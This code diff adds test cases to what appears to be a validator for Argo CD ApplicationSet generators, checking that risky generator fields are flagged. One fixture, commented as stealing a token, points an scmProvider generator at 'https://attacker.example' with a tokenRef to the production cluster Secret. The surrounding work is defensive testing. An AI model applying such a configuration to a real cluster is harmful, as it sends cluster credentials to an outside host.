@@ -38,6 +38,7 @@ FIELDS = (
     "spec.templatePatch",
     "spec.generators[].template.spec.project",
     "spec.generators[].template.metadata.name",
+    "spec.generators:",
 )
 
 
@@ -433,6 +434,67 @@ APPLICATION_SET_CASES = {
             )
         ),
         {},
+    ),
+    "a git generator": (
+        create(application_set(generators=[{"git": {"repoURL": "https://x/r.git", "revision": "main"}}])),
+        {},
+    ),
+    # A commit stealing a token: the SCM/pull-request generators send tokenRef Secrets to their API.
+    "scmProvider with a tokenRef to prod's cluster Secret": (
+        create(
+            application_set(
+                generators=[
+                    {
+                        "scmProvider": {
+                            "gitlab": {
+                                "api": "https://attacker.example",
+                                "group": "x",
+                                "tokenRef": {"secretName": "cluster-prod", "key": "config"},
+                            }
+                        }
+                    }
+                ]
+            )
+        ),
+        {"applicationsets": "spec.generators"},
+    ),
+    "pullRequest inside a matrix": (
+        create(
+            application_set(
+                generators=[
+                    {
+                        "matrix": {
+                            "generators": [
+                                _generator(),
+                                {"pullRequest": {"github": {"owner": "x", "repo": "y", "api": "https://a"}}},
+                            ]
+                        }
+                    }
+                ]
+            )
+        ),
+        {"applicationsets": "spec.generators"},
+    ),
+    "plugin two levels down": (
+        create(
+            application_set(
+                generators=[
+                    {
+                        "merge": {
+                            "mergeKeys": ["a"],
+                            "generators": [
+                                {"matrix": {"generators": [{"plugin": {"configMapRef": {"name": "p"}}}]}}
+                            ],
+                        }
+                    }
+                ]
+            )
+        ),
+        {"applicationsets": "spec.generators"},
+    ),
+    "clusterDecisionResource": (
+        create(application_set(generators=[{"clusterDecisionResource": {"configMapRef": "c"}}])),
+        {"applicationsets": "spec.generators"},
     ),
     # Today's rules
     "project default": (
